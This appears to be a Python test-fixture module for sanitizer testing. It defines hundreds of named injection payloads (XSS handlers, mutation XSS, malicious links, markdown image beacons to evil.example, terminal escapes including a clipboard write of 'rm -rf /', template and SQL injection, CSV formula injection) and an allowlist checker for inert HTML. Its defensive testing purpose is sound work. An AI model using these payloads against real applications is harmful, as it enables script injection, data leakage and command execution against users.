"""Texts that attack a page, a terminal or a spreadsheet, and how to see that HTML is inert.

Every script in them would set ``window.__pwned``; a browser test may look at that. ``inert`` asks
only which elements and attributes there are.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser

PWN = "window.__pwned=1"
# In places where no = may stand, and where quotes may not.
CALL = "Object.assign(window,{__pwned:1})"


def _kind(kind: str, *texts: str) -> dict[str, str]:
    return {f"{kind}-{i}": text for i, text in enumerate(texts, 1)}


_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=x:x", "onerror "),
    ("IMG SRC=x", "OnErRoR"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("video", "oncanplay"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("div style=animation-name:x", "onanimationstart"),
    ("div", "onpointerrawupdate"),
    ("a href=# id=x tabindex=1", "onfocus"),
    ("object data=x", "onerror"),
    ("iframe", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("math", "onclick"),
    ("x contenteditable", "onbeforeinput"),
    ("button popovertarget=x", "onclick"),
)

_SCRIPTS = (
    f"<script>{PWN}</script>",
    f"<ScRiPt>{PWN}</sCrIpT>",
    f"<script\n>{PWN}</script\t>",
    f"<script/x>{PWN}</script>",
    f"<script src=data:text/javascript,{PWN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{PWN}</script>",
    f"<<script>{PWN}//<</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<script>{PWN}",
    f"\\<script\\>{PWN}\\</script\\>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"&#60;script&#62;{PWN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
    f"＜script＞{PWN}＜/script＞",
    f"<script>\n\n{PWN}\n\n</script>",
)

_SVG = (
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><script href=data:,{PWN} />",
    f"<svg><a xlink:href=javascript:{PWN}><text y=20>go</text></a></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{PWN}>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{PWN}</script>'></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= /></svg>",
    "<svg><image href=http://evil.example/beacon.png /></svg>",
    f"<svg><style><img src=x onerror={PWN}></style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{PWN}</script>]]></svg>",
)

_MATHML = (
    f"<math href=javascript:{PWN}>x</math>",
    f"<math><mrow xlink:href=javascript:{PWN}>x</mrow></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{PWN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={PWN}></annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table>",
    f"<math><mi style=position:fixed;inset:0 onclick={PWN}>x</mi></math>",
    f"<math><mtext></p><script>{PWN}</script></mtext></math>",
)

_TEX = tuple(
    template.format(tex)
    for tex in (
        rf"\href{{javascript:{PWN}}}{{x}}",
        rf"\url{{javascript:{PWN}}}",
        r"\unicode{60}script\unicode{62}",
        r"\unicode{x202e}\unicode{0}\unicode{d800}\unicode{fdd0}0",
        rf"\require{{html}}\href{{javascript:{PWN}}}{{x}}",
        r"\def\x{\x\x}\x",
        r"\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\a",
        r"\let\a=\b \gdef\c{\c}\c",
        r"\style{position:fixed;inset:0;background:url(http://evil.example)}{x}",
        r"\class{fz-md}{x}\cssId{body}{y}",
        rf"\text{{<img src=x onerror={PWN}>}}",
        rf"\mbox{{</math><script>{PWN}</script>}}",
        rf"\html{{<img src=x onerror={PWN}>}}",
        r"\includegraphics{http://evil.example/x.png}",
        r"\hspace{99999em}\rule{99999em}{99999em}\raise{-9999em}{x}",
        r"\color{url(http://evil.example)}{x}\textcolor{white}{hidden}",
        r"\colorbox{url(javascript:1)}{x}\fcolorbox{red}{blue}{x}",
        "{" * 300 + "x" + "}" * 300,
        r"\frac" * 500,
        "x^" * 800,
        r"\begin{array}{" + "c" * 900 + "}x",
        r"\input{/etc/passwd}\write18{id}",
    )
    for template in ("${}$", "$$\n{}\n$$", r"\({}\)")
)

_ADDRESSES = (
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f" javascript:{PWN}",
    f"java\tscript:{PWN}",
    f"java&#10;script:{PWN}",
    f"java&Tab;script:{PWN}",
    f"javascript&colon;{PWN}",
    f"&#106;avascript:{PWN}",
    f"&#x6A&#x61vascript:{PWN}",
    f"%6Aavascript:{PWN}",
    f"javascript://%0a{PWN}",
    f"\x01javascript:{PWN}",
    f"java\u200bscript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={PWN}>",
    f"vbscript:{PWN}",
    f"VBScript:{PWN}",
    f"view-source:javascript:{PWN}",
    "file:///etc/passwd",
    "blob:http://evil.example/x",
    f"//evil.example/?{PWN}",
    f"jar:javascript:{PWN}",
)

_LINKS = (
    *(f"<a href='{address}'>go</a>" for address in _ADDRESSES),
    *(f"[go]({address})" for address in _ADDRESSES),
    *(f"[go](<{address}>)" for address in _ADDRESSES[:6]),
    *(f"<{address}>" for address in _ADDRESSES[:8]),
    *(f"[go][1]\n\n[1]: {address}" for address in _ADDRESSES[:8]),
    *(f"![beacon]({address})" for address in _ADDRESSES[:4]),
)

_MARKDOWN = (
    "![beacon](http://evil.example/beacon.png?secret)",
    "![beacon][b]\n\n[b]: http://evil.example/beacon.png",
    "[![beacon](http://evil.example/b.png)](http://evil.example)",
    f'![x](http://evil.example/x.png" onerror="{PWN})',
    f'![x" onerror="{PWN}](http://evil.example/x.png)',
    f"[x](http://evil.example '\" onmouseover=\"{PWN}')",
    f'[x](http://evil.example/"onmouseover="{PWN}")',
    f"[a]: http://evil.example '</a><script>{PWN}</script>'\n\n[a]",
    f'[a](javascript:{PWN} "title")',
    f"[[[a](http://b)](javascript:{PWN})](http://c)",
    f"[a](j\\avascript:{PWN})",
    f"`<img src=x onerror={PWN}>`",
    f'``` " onmouseover={PWN} x\ncode\n```',
    f"```html\n<script>{PWN}</script>\n```",
    f"```</code></pre><script>{PWN}</script>\ncode",
    f"    <script>{PWN}</script>",
    f"| a |\n|---|\n| <script>{PWN}</script> |",
    f"<div>\n\n**<script>{PWN}</script>**\n\n</div>",
    f"# <img src=x onerror={PWN}>",
    f"- [ ] <input onfocus={PWN} autofocus>",
    f"<!-- -->\n<script>{PWN}</script>",
    f'<http://evil.example/"onmouseover="{PWN}>',
    f'<mailto:a@b"onmouseover="{PWN}>',
    f"**a<b onclick={PWN}>**",
    f"[^1]\n\n[^1]: <script>{PWN}</script>",
    "> " * 200 + "deep",
    "[" * 2000,
    "*_~~`" * 400,
    "# " * 10 + "loud",
)

_CSS = (
    "<style>body{display:none}</style>",
    "<style>@import url(http://evil.example/x.css);</style>",
    f"<style>*{{background:url(javascript:{PWN})}}</style>",
    f'<p style="width:expression({PWN})">x</p>',
    f'<p style="behavior:url(x);-moz-binding:url(x)">{PWN}</p>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    f"</style><script>{PWN}</script>",
    f"*/}}</style><img src=x onerror={PWN}>",
    "<style>.fz.fz{display:none}",
    "<font color=white>hidden</font><marquee>loud</marquee>",
)

_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hgone",
    "\x1b]0;title\x07after",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07clip",
    "\x1b]1337;File=inline=1:AAAA\x07file",
    "\x1bP+q544e\x1b\\device",
    "\x9b31mc1",
    "\x1b[?1049hscreen",
    "back\b\b\b\bspace",
    "carriage\rreturn",
    "bell\x07\x07",
    "\x1b[6n report",
    "\x0e shift \x0f",
)

_UNICODE = (
    "safe\u202egnp.exe",
    "\u2066a\u2069\u2067b\u2069",
    "\u061carabic mark",
    "zero\u200bwidth\u2060joiner\ufeff",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042tags\U000e007f",
    "z" + "\u0301\u0308\u0335" * 60 + "algo",
    "half \ud800 pair \udfff",
    "nul \x00 byte",
    "line\u2028and\u2029paragraph",
    "\u115f\u3164filler\uffa0",
    "\ufdd00\ufdd0mark\ufdd10\ufdd1",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "\U0001f1e9\U0001f1ea flag \U0001f44d\U0001f3ff \u2764\ufe0f",
    "\ufffe\uffff noncharacters",
    "\u202e" * 500 + "reversed",
    "<\u200bscript>" + PWN,
    "ſcript and \u212aelvin",
    "p\u0430yp\u0430l homograph",
)

_LONG = (
    "x" * 1_000_000,
    "<b>" * 330_000,
    "W" * 5_000,
    "\u4e00" * 5_000,
    "a-b/" * 2_000,
    "&" * 10_000,
    "\n" * 5_000 + "tall",
    "https://evil.example/" + "a" * 5_000,
)

_STATE = (
    f"</script><script>{PWN}</script>",
    f"<!--<script>{PWN}//-->",
    f"]]><script>{PWN}</script>",
    f"--><script>{PWN}</script><!--",
    f"--!><script>{PWN}</script>",
    f'"}}]}};{PWN};//',
    f"';{PWN};//",
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
    f"\\u003c/script\\u003e{PWN}",
    f'\\"}};{PWN}',
    "{{7*7}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{% import os %}{{ os.system('id') }}",
    "<%= 7*7 %>",
    "#{7*7} ${7*7} @(7*7)",
    "{{{raw}}} [[x]] {$x}",
    "%s %n %(x)s {0} {x!r}",
    "'; DROP TABLE runs; --",
    "__proto__",
    "constructor",
)

_CSV = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","go")',
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    'a","b\nc,d',
    '=IMPORTXML("http://evil.example","//a")',
)

_ATTRIBUTES = (
    f'" onmouseover="{PWN}" x="',
    f"' onmouseover='{PWN}' x='",
    f"` onmouseover={PWN} ",
    f'"><script>{PWN}</script>',
    f"'><img src=x onerror={PWN}>",
    f'x" autofocus onfocus={PWN} tabindex=1 y="',
    f"javascript:{PWN}",
    f'" style="position:fixed" data-fz="{PWN}',
    f"\n onclick={PWN}\n",
    "&quot; onclick=1 &quot;",
)

_CLOBBER = (
    "<img name=body>",
    "<form id=document><input name=cookie></form>",
    "<a id=__pwned></a><a id=__pwned name=x href=http://evil.example></a>",
    "<div id=fz class='fz fz-best' data-fz=1 data-i=0>mine</div>",
    "<input name=attributes><input id=parentNode>",
    "<object name=querySelector></object>",
)

_MUTATION = (
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    f'<textarea><img title="</textarea><img src=x onerror={PWN}>">',
    f"<template><script>{PWN}</script></template>",
    f'<title><a title="</title><img src=x onerror={PWN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={PWN}>">',
    f"<select><style></select><img src=x onerror={PWN}>",
    f"<table><td><svg><desc><td></desc><script>{PWN}</script>",
    f"<plaintext><img src=x onerror={PWN}>",
    f"<listing>&lt;img onerror={PWN} src=x&gt;</listing>",
    f'<a href="x"<img src=x onerror={PWN}>',
)

_FRAMES = (
    f"<iframe src=javascript:{PWN}></iframe>",
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f"<object data=javascript:{PWN}></object>",
    f"<embed src=javascript:{PWN}>",
    f"<form action=javascript:{PWN}><button>go</button></form>",
    f"<button formaction=javascript:{PWN} form=x>go</button>",
    f'<meta http-equiv=refresh content="0;url=javascript:{PWN}">',
    "<base href=http://evil.example/>",
    f"<isindex action=javascript:{PWN} type=image>",
    "<portal src=http://evil.example></portal>",
    "<img srcset='http://evil.example/b.png 1x' src=x>",
    "<table background=http://evil.example/b.png><td>x</table>",
    "<video poster=http://evil.example/b.png></video>",
    f"<dialog open onclose={PWN}><form method=dialog><button autofocus>x</form></dialog>",
    "</div></td></tr></table></details><h1>out</h1>",
    "</ul></li></bdi></strong><b>bold",
)

PAYLOADS: dict[str, str] = {
    **_kind("handler", *(f"<{tag} {event}={PWN}>" for tag, event in _HANDLERS)),
    **_kind("script", *_SCRIPTS),
    **_kind("svg", *_SVG),
    **_kind("mathml", *_MATHML),
    **_kind("tex", *_TEX),
    **_kind("link", *_LINKS),
    **_kind("markdown", *_MARKDOWN),
    **_kind("css", *_CSS),
    **_kind("terminal", *_TERMINAL),
    **_kind("unicode", *_UNICODE),
    **_kind("long", *_LONG),
    **_kind("state", *_STATE),
    **_kind("csv", *_CSV),
    **_kind("attribute", *_ATTRIBUTES),
    **_kind("clobber", *_CLOBBER),
    **_kind("mutation", *_MUTATION),
    **_kind("frame", *_FRAMES),
}
"""Name → text."""


# ── is it inert? ─────────────────────────────────────────────────────────────────────────────

_EVERYWHERE = {"class", "dir", "role", "tabindex", "title"}
_MATH = (
    *("math", "mi", "mn", "mo", "mtext", "mrow", "mspace", "mfrac", "msub", "msup", "msubsup"),
    *("msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle"),
    *("mpadded", "mphantom", "menclose"),
)
_MATH_ATTRIBUTES = {
    *("display", "mathvariant", "stretchy", "fence", "separator", "form", "lspace", "rspace"),
    *("movablelimits", "largeop", "minsize", "maxsize", "accent", "displaystyle", "scriptlevel"),
    *("width", "linebreak", "linethickness", "columnalign", "notation"),
}
_PLAIN = (
    *("div", "p", "span", "b", "i", "u", "s", "em", "strong", "small", "sup", "bdi", "br", "hr"),
    *("pre", "code", "blockquote", "ul", "li", "summary", "table", "thead", "tbody", "tr"),
    *("caption", "style"),
)
ALLOWED: Mapping[str, set[str]] = {
    **{tag: set() for tag in _PLAIN},
    **dict.fromkeys(_MATH, _MATH_ATTRIBUTES),
    "a": {"href", "target", "rel"},
    "details": {"open"},
    "ol": {"start"},
    "progress": {"value", "max"},
    "th": {"scope", "colspan"},
    "td": {"colspan"},
}
_STYLE = re.compile(r"(?:(?:left|width|text-align):[\w.%]+;?)+")
_DATA = re.compile(r"data-[a-z]+|aria-[a-z]+")
_LINK = re.compile(r"(?:https?://|mailto:)[!-~]*")
_VOID = {"br", "hr"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for attribute, value in attrs:
            if not _harmless(tag, attribute, value or ""):
                self.found.append(f"<{tag} {attribute}={(value or '')[:80]!r}>")
        if tag not in _VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> out of place")

    def handle_data(self, data: str) -> None:
        bad = re.search(r"url\(|@import|expression|://|<", data)
        if self.open and self.open[-1] == "style" and (bad or not data.startswith(".fz.fz{")):
            self.found.append(f"a style sheet {data[:80]!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment {data[:80]!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"a declaration {decl[:80]!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"an instruction {data[:80]!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"a section {data[:80]!r}")


def _harmless(tag: str, attribute: str, value: str) -> bool:
    if attribute == "href":
        return tag == "a" and _LINK.fullmatch(value) is not None
    if attribute == "style":
        return _STYLE.fullmatch(value) is not None
    known = attribute in _EVERYWHERE or attribute in ALLOWED.get(tag, set())
    return known or _DATA.fullmatch(attribute) is not None


def inert(html: str) -> list[str]:
    """What in ``html`` is not known to be harmless; empty if all is, and it is well nested."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    left = [f"<{tag}> left open" for tag in inspector.open]
    return inspector.found + left
